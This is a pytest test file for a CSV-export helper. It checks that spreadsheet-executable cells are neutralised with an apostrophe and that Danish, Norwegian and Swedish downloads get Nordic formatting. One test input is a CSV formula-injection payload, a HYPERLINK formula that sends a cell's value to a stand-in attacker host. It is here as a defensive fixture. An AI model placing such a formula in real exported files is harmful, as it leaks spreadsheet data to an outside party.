import csv
import io

import pytest

from servicefit.core.csv import csv_cell, csv_write


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A2,"Klik")', '\'=HYPERLINK("http://evil.example/?"&A2,"Klik")'),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Kundeservice Århus", "Kundeservice Århus"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3.5, -3.5),
        (42, 42),
    ],
)
def test_it_neutralises_cells_a_spreadsheet_would_run(value, written):
    assert csv_cell(value) == written


def test_it_writes_a_header_and_rows_in_column_order():
    out = io.StringIO()
    csv_write(out, columns=["name", "score"], rows=[{"score": -1.5, "name": "=1+1", "ignored": "x"}])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name", "score"], ["'=1+1", "-1.5"]]


@pytest.mark.parametrize("language", ["da", "nb", "sv"])
def test_it_writes_semicolons_and_decimal_commas_for_a_nordic_spreadsheet(language):
    # Excel in Denmark, Norway and Sweden splits a CSV file on ";" (the regional list separator):
    # a comma-separated download opened there as one column per line.
    out = io.StringIO()
    csv_write(
        out,
        columns=["team", "enps", "n", "note"],
        rows=[{"team": "Kundeservice, Århus", "enps": -22.2, "n": 9, "note": "=1+1"}],
        language=language,
    )
    assert list(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        ["team", "enps", "n", "note"],
        ["Kundeservice, Århus", "-22,2", "9", "'=1+1"],
    ]


def test_it_follows_the_active_language_when_none_is_given():
    from django.utils import translation

    with translation.override("sv"):
        out = io.StringIO()
        csv_write(out, columns=["a", "b"], rows=[{"a": 1.5, "b": "x"}])
    assert out.getvalue() == "a;b\r\n1,5;x\r\n"
    with translation.override("en"):
        out = io.StringIO()
        csv_write(out, columns=["a", "b"], rows=[{"a": 1.5, "b": "x"}])
    assert out.getvalue() == "a,b\r\n1.5,x\r\n"


@pytest.mark.parametrize(("language", "yes", "no"), [("da", "Ja", "Nej"), ("nb", "Ja", "Nei"), ("sv", "Ja", "Nej")])
def test_it_writes_yes_and_no_in_a_nordic_download_not_true_and_false(language, yes, no):
    out = io.StringIO()
    csv_write(
        out,
        columns=["team", "suppressed"],
        rows=[{"team": "A", "suppressed": True}, {"team": "B", "suppressed": False}],
        language=language,
    )
    assert list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))[1:] == [["A", yes], ["B", no]]
